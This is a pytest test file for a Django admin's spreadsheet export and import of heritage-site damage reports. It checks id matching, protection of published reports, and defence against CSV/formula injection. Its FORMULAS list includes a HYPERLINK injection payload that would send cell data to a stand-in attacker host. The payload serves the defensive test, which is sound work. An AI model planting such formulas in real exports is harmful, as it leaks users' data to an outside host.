"""A curator's round trip through the admin: export, fix a cell, import. The same report is
updated (matched by its id), formulas never come back to life, and what may not be changed
says why (issue 10)."""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from reports.models import DamageReport
from reports.vocabularies import Status
from sites.models import HeritageSite, Monument
from tests.admin_pages import admin_url
from tests.factories import make_monument, make_published_report, make_report, make_site

pytestmark = pytest.mark.django_db

CSV, XLSX = "0", "1"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "@SUM(1+1)",
    "+1+2",
    "-2+3",
]


@pytest.fixture
def palmyra():
    site = make_site(name="Site of Palmyra", slug="palmyra", unesco_id=23)
    make_monument(site, name="Temple of Bel", slug="temple-of-bel")
    return site


def export_all(client, model, file_format: str) -> bytes:
    """Every column: the export form ticks them all by default."""
    page = client.get(admin_url(model, "export"))
    form = page.context["form"]
    fields = {
        name: "on" for name in form.fields if name not in ("format", "resource", "export_items")
    }
    response = client.post(
        admin_url(model, "export"), {"format": file_format, "resource": "0", **fields}
    )
    assert response.status_code == 200
    return response.content


def import_preview(client, model, name: str, data: bytes, file_format: str):
    upload = SimpleUploadedFile(name, data)
    return client.post(
        admin_url(model, "import"), {"resource": "0", "format": file_format, "import_file": upload}
    )


def confirm(client, model, preview):
    data = dict(preview.context["confirm_form"].initial)
    return client.post(admin_url(model, "process_import"), data)


def rows_of(data: bytes, file_format: str) -> list[dict]:
    if file_format == CSV:
        return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    values = list(sheet.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:]]


def to_file(rows: list[dict], file_format: str) -> bytes:
    if file_format == CSV:
        out = io.StringIO()
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
        return out.getvalue().encode()
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(list(rows[0]))
    for row in rows:
        sheet.append(list(row.values()))
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_a_round_trip_updates_the_same_draft_instead_of_adding_one(
    client, editor, palmyra, file_format
):
    draft = make_report(palmyra, summary="Cela blown up.", status=Status.DRAFT)
    in_review = make_report(palmyra, summary="Arch destroyed.", damage_type="explosives")
    in_review.status = Status.IN_REVIEW
    in_review.save()
    client.force_login(editor)
    rows = rows_of(export_all(client, DamageReport, file_format), file_format)
    for row in rows:
        if row["id"] in (draft.pk, str(draft.pk)):
            row["summary"] = "Cella blown up."
        else:
            row["extent"] = "severe"
    preview = import_preview(
        client,
        DamageReport,
        f"reports.{('csv', 'xlsx')[int(file_format)]}",
        to_file(rows, file_format),
        file_format,
    )
    assert preview.status_code == 200
    result = preview.context["result"]
    assert (result.totals["new"], result.totals["update"]) == (0, 2)
    assert "New" not in [row.import_type for row in result.valid_rows()]
    assert confirm(client, DamageReport, preview).status_code == 302
    assert DamageReport.objects.count() == 2
    draft.refresh_from_db()
    in_review.refresh_from_db()
    assert (draft.summary, draft.status) == ("Cella blown up.", Status.DRAFT)
    assert (in_review.extent, in_review.status) == ("severe", Status.IN_REVIEW)


@pytest.mark.parametrize("user", ["editor", "reviewer"])
def test_a_published_report_is_never_changed_by_an_import_and_the_row_says_why(
    client, palmyra, user, request
):
    published = make_published_report(palmyra, summary="Theatre used for executions.")
    client.force_login(request.getfixturevalue(user))
    rows = rows_of(export_all(client, DamageReport, CSV), CSV)
    rows[0]["summary"] = "Changed by a spreadsheet."
    rows[0]["status"] = "draft"
    preview = import_preview(client, DamageReport, "reports.csv", to_file(rows, CSV), CSV)
    assert preview.status_code == 200
    assert "confirm_form" not in preview.context
    assert "never what the public sees" in preview.content.decode()
    published.refresh_from_db()
    assert (published.summary, published.status) == (
        "Theatre used for executions.",
        Status.PUBLISHED,
    )


def test_an_unchanged_export_imports_back_as_unchanged_rows_published_included(
    client, editor, palmyra
):
    make_published_report(palmyra, summary="Theatre used for executions.")
    make_report(palmyra, summary="Mines in the ruins.", damage_type="mines")
    client.force_login(editor)
    data = export_all(client, DamageReport, XLSX)
    preview = import_preview(client, DamageReport, "reports.xlsx", data, XLSX)
    result = preview.context["result"]
    assert (result.totals["skip"], result.totals["new"], result.totals["update"]) == (2, 0, 0)


def test_an_id_that_is_no_report_is_a_row_error_not_a_new_report(client, editor, palmyra):
    client.force_login(editor)
    sheet = (
        "id,site,monument,occurred_on,damage_type,summary\n"
        "999999,palmyra,,2015-08-30,explosives,x\n"
        "abc,palmyra,,2015-08-30,explosives,y\n"
    )
    preview = import_preview(client, DamageReport, "reports.csv", sheet.encode(), CSV)
    page = preview.content.decode()
    assert "No report has the id 999999" in page
    assert "&#x27;abc&#x27; is not a report id" in page
    assert not DamageReport.objects.exists()


def test_rows_without_an_id_are_still_matched_on_the_claim(client, editor, palmyra):
    report = make_report(palmyra, summary="Mines in the ruins.", damage_type="mines")
    client.force_login(editor)
    sheet = (
        "id,site,monument,occurred_on,damage_type,summary,extent\n"
        f",palmyra,,{report.occurred_on},mines,Mines in the ruins.,severe\n"
    )
    preview = import_preview(client, DamageReport, "reports.csv", sheet.encode(), CSV)
    assert preview.context["result"].totals["update"] == 1


@pytest.mark.parametrize("file_format", [CSV, XLSX])
def test_exported_text_never_runs_as_a_formula_and_imports_back_unchanged(
    client, editor, palmyra, file_format
):
    for number, formula in enumerate(FORMULAS):
        make_report(palmyra, responsible_party=formula, summary=f"{formula} {number}")
    site = HeritageSite.objects.get()
    site.description = "=1+1"
    site.save()
    make_monument(site, name="@Arch", slug="arch", period="-100")
    client.force_login(editor)
    for model in (DamageReport, HeritageSite, Monument):
        data = export_all(client, model, file_format)
        if file_format == XLSX:
            # Text cells, shown as written and never run: no `'` needed.
            sheet = openpyxl.load_workbook(io.BytesIO(data)).active
            kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
            assert "f" not in kinds, model  # no formula cell anywhere
            texts = [cell for row in sheet.iter_rows() for cell in row if cell.value]
            assert {cell.data_type for cell in texts if isinstance(cell.value, str)} == {"s"}
        else:
            for row in rows_of(data, file_format):
                for column, value in row.items():
                    if isinstance(value, str) and value:
                        assert value[0] not in "=+-@", (model, column, value)
        preview = import_preview(
            client, model, f"x.{('csv', 'xlsx')[int(file_format)]}", data, file_format
        )
        result = preview.context["result"]
        assert not result.has_errors() and not result.has_validation_errors(), model
        assert result.totals["update"] == result.totals["new"] == 0, model
    assert sorted(DamageReport.objects.values_list("responsible_party", flat=True)) == sorted(
        FORMULAS
    )


def test_the_xlsx_export_writes_formula_like_text_as_text_cells_without_a_quote(
    client, editor, palmyra
):
    for formula in FORMULAS:
        make_report(palmyra, responsible_party=formula, summary=formula)
    client.force_login(editor)
    sheet = openpyxl.load_workbook(io.BytesIO(export_all(client, DamageReport, XLSX))).active
    header = [cell.value for cell in sheet[1]]
    cells = [row[header.index("responsible_party")] for row in sheet.iter_rows(min_row=2)]
    assert sorted(cell.value for cell in cells) == sorted(FORMULAS)
    assert {cell.data_type for cell in cells} == {"s"}


def test_the_csv_export_prefixes_formulas_with_a_quote(client, editor, palmyra):
    make_report(palmyra, responsible_party=FORMULAS[0])
    client.force_login(editor)
    (row,) = rows_of(export_all(client, DamageReport, CSV), CSV)
    assert row["responsible_party"] == "'" + FORMULAS[0]
    assert row["occurred_on"] == "2015-08-30"


def test_a_file_without_a_key_column_is_a_form_error_naming_it(client, editor, palmyra):
    client.force_login(editor)
    cases = [
        (Monument, "site,name,kind\npalmyra,Temple,temple\n", "no “slug” column"),
        (HeritageSite, "name,slug\nPalmyra,palmyra\n", "no “unesco_id” column"),
        (
            DamageReport,
            "site,summary\npalmyra,x\n",
            "no “monument”, “damage_type” and “occurred_on” columns",
        ),
        (HeritageSite, "unesco_id,nmae\n23,Palmyra\n", "Unknown column “nmae”"),
    ]
    for model, sheet, message in cases:
        response = import_preview(client, model, "x.csv", sheet.encode(), CSV)
        assert response.status_code == 200
        page = response.content.decode()
        assert message in " ".join(response.context["form"].errors["import_file"]), model
        assert "Traceback" not in page and "/work/" not in page and ".py" not in page
    assert Monument.objects.count() == 1 and not DamageReport.objects.exists()
